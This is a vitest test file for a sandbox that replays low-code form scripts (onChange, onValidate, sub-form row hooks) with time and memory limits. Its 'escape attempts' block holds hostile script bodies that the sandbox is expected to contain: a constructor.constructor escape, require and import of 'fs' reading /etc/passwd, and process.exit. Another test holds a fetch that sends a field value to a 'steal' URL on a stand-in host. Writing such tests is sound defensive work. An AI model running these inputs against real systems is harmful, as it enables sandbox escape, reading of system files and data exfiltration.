import { loadFormJson } from '@tandem/form-core'
import { describe, expect, it } from 'vitest'
import { replayForm } from './replayForm.js'
import type { ReplayResult } from './replayTypes.js'

const LIMITS = { memoryBytes: 64 * 1024 * 1024, timeBudgetMs: 200 }

const input = (name: string, label: string, options: Record<string, unknown> = {}) => ({ type: 'input', id: name, options: { name, label, ...options } })
const replay = (formConfig: Record<string, unknown>, widgetList: unknown[], data: Record<string, unknown>) =>
  replayForm(loadFormJson({ formConfig, widgetList }), data, LIMITS)

function succeeded(result: ReplayResult) {
  if (!result.ok) throw new Error(`replay failed: ${JSON.stringify(result.failure)}`)
  return result
}

describe('replayForm', () => {
  it('hides what onFormMounted hides, and onChange shows and requires it again as the user fills', async () => {
    const form = { onFormMounted: "this.getWidgetRef('yi').setHidden(true)" }
    const fields = [
      input('jia', '甲', { required: true, onChange: "if (value === '显示') { this.getWidgetRef('yi').setHidden(false); this.getWidgetRef('yi').setRequired(true) }" }),
      input('yi', '乙'),
    ]
    expect(succeeded(await replay(form, fields, { jia: '一' })).states).toMatchObject({ jia: { hidden: false }, yi: { hidden: true } })
    const shown = succeeded(await replay(form, fields, { jia: '显示' }))
    expect(shown.states.yi).toMatchObject({ hidden: false, options: { required: true, label: '乙' } })
  })

  it('runs onChange with (value, oldValue), cascades values scripts set and keeps them on fields the user cannot edit', async () => {
    const fields = [
      input('price', '单价', { onChange: "this.getFormRef().setFieldValue('total', value * 2); this.getFormRef().setFieldValue('seen', String(oldValue))" }),
      input('total', '合计', { disabled: true, onChange: "this.getWidgetRef('note').setValue('合计 ' + value)" }),
      input('seen', '旧值'),
      input('note', '备注'),
    ]
    const result = succeeded(await replay({}, fields, { price: 3, total: 999, seen: '', note: '' }))
    // total is disabled: the script's 6 stands, not the client's 999; seen and note are editable, so the submitted '' wins
    expect(result.data).toEqual({ price: 3, total: 6, seen: '', note: '' })
  })

  it('gives sub-form rows their onChange with subFormData and rowId, and this.subFormRowIndex', async () => {
    const subForm = {
      type: 'sub-form',
      id: 'items',
      options: { name: 'items', label: '明细' },
      widgetList: [
        input('qty', '数量', { onChange: 'this.getWidgetRef(\'remark@row\' + rowId).setRequired(value > 5 && subFormData.length === 2 && this.subFormRowIndex === 1)' }),
        input('remark', '说明'),
      ],
    }
    const result = succeeded(await replay({}, [subForm], { items: [{ qty: 1, remark: '' }, { qty: 9, remark: '' }] }))
    expect(result.states['items.0.remark']).toEqual({ hidden: false })
    expect(result.states['items.1.remark']).toMatchObject({ hidden: false, options: { required: true } })
  })

  it('gives each ref its own widget: sub-form refs reach their rows, and a field ref is this in its $nextTick', async () => {
    const subForm = {
      type: 'sub-form',
      id: 'items',
      options: { name: 'items', label: '明细' },
      widgetList: [input('qty', '数量'), input('remark', '说明')],
    }
    const form = {
      onFormMounted: [
        "const items = this.getWidgetRef('items')",
        "items.getWidgetRefOfSubForm('remark', items.getSubFormRowCount() - 1).setHidden(true)",
        "const count = this.getWidgetRef('count')",
        "count.$nextTick(function () { this.setValue(items.getSubFormRowCount()) })",
        "this.getWidgetRef('other').setRequired(true)",
      ].join('\n'),
    }
    const result = succeeded(await replay(form, [subForm, input('count', '行数', { disabled: true }), input('other', '其他')], { items: [{ qty: 1 }, { qty: 2 }] }))
    // at onFormMounted the sub-form has its one default row; the second comes with the submitted data
    expect(result.data.count).toBe(1)
    expect(result.states).toMatchObject({ 'items.0.remark': { hidden: true }, 'items.1.remark': { hidden: false }, other: { options: { required: true } } })
    expect(result.states.count.options).toBeUndefined()
  })

  it('runs the sub-form row hooks for the submitted rows: onSubFormRowAdd with the new row id, the row fields\' onCreated, onSubFormRowChange', async () => {
    const subForm = {
      type: 'sub-form',
      id: 'items',
      options: {
        name: 'items',
        label: '明细',
        onSubFormRowAdd: "this.getWidgetRefOfSubForm('remark', subFormData.length - 1).setRequired(newRowId !== this.getRowIdData()[0])",
        onSubFormRowChange: "this.getFormRef().setFieldValue('rows', subFormData.length)",
      },
      widgetList: [input('qty', '数量', { onCreated: 'this.setHidden(this.subFormRowIndex === 2)' }), input('remark', '说明')],
    }
    const fields = [subForm, input('rows', '行数', { readonly: true })]
    const three = succeeded(await replay({}, fields, { items: [{ qty: 1 }, { qty: 2 }, { qty: 3 }], rows: 99 }))
    // the default row is there before the user's; the two added rows get required remarks, the third row's qty is hidden
    expect(three.data.rows).toBe(3)
    expect(three.states['items.0.remark'].options).toBeUndefined()
    expect(three.states).toMatchObject({ 'items.1.remark': { options: { required: true } }, 'items.2.remark': { options: { required: true } }, 'items.2.qty': { hidden: true }, 'items.1.qty': { hidden: false } })
    // a row the user removed runs onSubFormRowDelete, then onSubFormRowChange
    const none = succeeded(
      await replay({}, [{ ...subForm, options: { ...subForm.options, onSubFormRowDelete: "this.getFormRef().setFieldValue('deleted', Object.keys(deletedDataRow).join(','))" } }, ...fields.slice(1), input('deleted', '删除', { disabled: true })], { items: [], rows: 99 }),
    )
    expect(none.data).toMatchObject({ rows: 0, deleted: 'qty,remark' })
  })

  it('reads formDataModel, formJsonObj, widgetRefList and the form functions', async () => {
    const form = {
      functions: 'function flag(v) { return v === "是" }',
      onFormMounted: [
        "this.formDataModel.b = this.formJsonObj.widgetList.length + ':' + Object.keys(this.widgetRefList).join(',')",
        "if (flag(this.formDataModel.a)) this.hideWidgets('c')",
      ].join('\n'),
    }
    const result = succeeded(await replay(form, [input('a', 'A', { defaultValue: '是' }), input('b', 'B'), input('c', 'C')], {}))
    expect(result.data.b).toBe('3:v_form_ref,a,b,c')
    expect(result.states.c.hidden).toBe(true)
  })

  it('records page members as skipped calls and runs on past them', async () => {
    const form = {
      onFormMounted: [
        "this.$message.warning('x')",
        "this.executeDataSource('ds').then(() => this.hideWidgets('a'))",
        "axios.get('/x').then(() => this.hideWidgets('a'))",
        "document.getElementById('a').style.color = 'red'",
        "this.$nextTick(() => this.setFieldValue('a', 'after tick'))",
      ].join('\n'),
    }
    const result = succeeded(await replay(form, [input('a', 'A')], {}))
    expect(result.states.a.hidden).toBe(false)
    expect(result.data.a).toBe('after tick')
    expect(result.uses[0].skippedCalls).toEqual(['$message.warning', 'executeDataSource', 'axios.get', 'document.getElementById', '$nextTick'])
  })

  describe('escape attempts end the replay naming the script', () => {
    const attempts: Array<[string, string, 'error' | 'timeout' | 'memory', RegExp]> = [
      ['while(true){}', 'while (true) {}', 'timeout', /interrupted/],
      ['unbounded allocation', 'const a = []; for (;;) a.push(new Array(100000).fill(1))', 'memory', /out of memory/],
      ['unbounded recursion', 'function f() { return f() + 1 } f()', 'error', /stack overflow|call stack/i],
      ['globalThis', 'globalThis.process.exit(1)', 'error', /TypeError/],
      ['process', 'process.exit(1)', 'error', /ReferenceError: '?process'? is not defined/],
      ['require', "require('fs')", 'error', /ReferenceError: '?require'? is not defined/],
      ['import()', "return import('fs').then((fs) => fs.readFileSync('/etc/passwd'))", 'error', /fs/],
      ['constructor.constructor', "this.constructor.constructor('return process')().exit(1)", 'error', /ReferenceError: '?process'? is not defined/],
      ['throwing a string', "throw 'stop'", 'error', /throw "stop"/],
      ['throwing an object', 'throw { code: 7 }', 'error', /throw \{"code":7\}/],
      ['throwing null', 'throw null', 'error', /throw null/],
    ]
    for (const [name, body, kind, detail] of attempts) {
      it(name, async () => {
        const result = await replay({}, [input('a', 'A', { onChange: body })], { a: 'x' })
        expect(result.ok).toBe(false)
        if (result.ok) return
        expect(result.failure).toMatchObject({ owner: 'a', hook: 'onChange', kind })
        expect(result.failure.detail).toMatch(detail)
      })
    }

    it('fetch is a skipped call, not a request', async () => {
      const result = succeeded(await replay({}, [input('a', 'A', { onChange: "fetch('http://127.0.0.1:1/steal?d=' + value)" })], { a: 'x' }))
      expect(result.uses[0].skippedCalls).toEqual(['fetch'])
    })
  })

  describe('onValidate', () => {
    const atLeastThree = "if (String(value).length < 3) callback(new Error('至少填写三个字')); else callback()"

    it('refuses a value the field\'s onValidate refuses, with its message, and passes one it accepts', async () => {
      const fields = [input('title', '标题', { onValidate: atLeastThree })]
      expect(succeeded(await replay({}, fields, { title: '合同' })).refused).toEqual([
        { path: 'title', name: 'title', label: '标题', subFormName: null, rowIndex: null, rowId: null, message: '至少填写三个字', messages: ['至少填写三个字'] },
      ])
      expect(succeeded(await replay({}, fields, { title: '采购合同' })).refused).toEqual([])
    })

    it('runs with the field as this, the rule VForm passes and the state scripts left; skips fields the scripts hid', async () => {
      const fields = [
        input('kind', '类型', { onChange: "this.getWidgetRef('code').setHidden(value === '内部')" }),
        input('code', '编号', { onValidate: "callback(this.getFormRef().getFieldValue('kind') === '外部' && !/^W/.test(value) ? rule.field + ' 须以 W 开头' : undefined)" }),
      ]
      expect(succeeded(await replay({}, fields, { kind: '外部', code: 'A1' })).refused.map((error) => error.message)).toEqual(['code 须以 W 开头'])
      expect(succeeded(await replay({}, fields, { kind: '外部', code: 'W1' })).refused).toEqual([])
      expect(succeeded(await replay({}, fields, { kind: '内部', code: 'A1' })).refused).toEqual([])
    })

    it('checks every sub-form row at its data path, and hears a callback given later by a timer', async () => {
      const subForm = {
        type: 'sub-form',
        id: 'items',
        options: { name: 'items', label: '明细' },
        widgetList: [input('qty', '数量', { onValidate: "setTimeout(() => callback(Number(value) > 0 ? undefined : '数量须大于零'), 10)" })],
      }
      const result = succeeded(await replay({}, [subForm], { items: [{ qty: 2 }, { qty: 0 }] }))
      expect(result.refused).toMatchObject([{ path: 'items.1.qty', subFormName: 'items', rowIndex: 1, message: '数量须大于零' }])
    })

    it('passes a value when the validator throws or never calls back, as the browser does', async () => {
      const fields = [input('a', 'A', { onValidate: 'null.check(value)' }), input('b', 'B', { onValidate: "this.getFormRef().executeDataSource('check').then(() => callback(new Error('不会到达')))" })]
      expect(succeeded(await replay({}, fields, { a: 'x', b: 'y' })).refused).toEqual([])
    })

    it('ends the replay when a validator spins past the budget', async () => {
      const result = await replay({}, [input('a', 'A', { onValidate: 'while (true) {}' })], { a: 'x' })
      expect(result).toMatchObject({ ok: false, failure: { owner: 'a', hook: 'onValidate', kind: 'timeout' } })
    })
  })

  it('gives onFormDataChange the form\'s live data as formModel, as VForm does: it reads the values so far and writes through to the fields', async () => {
    const form = { onFormDataChange: "if (fieldName === 'b') formModel.sum = String(Number(formModel.a) + Number(newValue))" }
    const fields = [input('a', 'A'), input('b', 'B'), input('sum', '合计', { disabled: true })]
    expect(succeeded(await replay(form, fields, { a: '2', b: '3', sum: '' })).data.sum).toBe('5')
  })

  it('reports a handler that does not parse as its own syntax error, the form\'s other handlers running as before', async () => {
    const fields = [
      input('a', 'A', { onChange: "this.getFormRef().setFieldValue('c', value + '!')" }),
      input('b', 'B', { onChange: 'return (' }),
      input('c', 'C', { disabled: true }),
    ]
    expect(succeeded(await replay({}, fields, { a: '1' })).data.c).toBe('1!')
    const failed = await replay({}, fields, { a: '1', b: '2' })
    expect(failed).toMatchObject({ ok: false, failure: { owner: 'b', hook: 'onChange', kind: 'syntax' } })
  })

  it('keeps nothing between replays: globals a script sets are gone at the next save', async () => {
    const fields = [input('a', 'A', { onChange: 'globalThis.seen = (globalThis.seen || []).concat(value); this.getFormRef().setFieldValue("b", globalThis.seen.join())' }), input('b', 'B', { disabled: true })]
    expect(succeeded(await replay({}, fields, { a: '第一次的数据' })).data.b).toBe('第一次的数据')
    expect(succeeded(await replay({}, fields, { a: '第二次' })).data.b).toBe('第二次')
  })
})
